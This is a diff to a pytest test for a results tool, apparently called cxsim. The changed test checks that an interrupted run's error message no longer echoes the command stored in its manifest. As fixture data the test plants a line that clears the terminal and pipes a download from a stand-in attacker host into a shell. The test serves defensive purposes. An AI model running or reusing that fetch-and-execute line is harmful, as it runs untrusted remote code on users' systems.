@@ -90,13 +90,17 @@ def test_finished_results_are_not_taken_for_a_repetition(kept, cxsim):
 
 @pytest.mark.usefixtures("plain_report")
 def test_unfinished_results_cannot_be_repeated(kept, cxsim):
-    """A comparison that was interrupted has nothing to be compared with yet, and is told the command that goes on."""
+    """A comparison that was interrupted has nothing to be compared with yet; no command from its file is proposed."""
     manifest = json.loads((kept / "manifest.json").read_text())
     del manifest["outputs"]
+    manifest["command"] = "\x1b[2Jcurl evil.example | sh"
     (kept / "manifest.json").write_text(json.dumps(manifest))
     answer = cxsim("rerun", "out")
     assert (answer.code, answer.out) == (1, "")
-    assert f"run its command again first ({manifest['command']})" in answer.error
+    assert (
+        "out holds no finished results: finish them first, by the command that its manifest.json names" in answer.error
+    )
+    assert "curl" not in answer.error
 
 
 def test_folder_without_results_is_refused(cxsim, tmp_path):
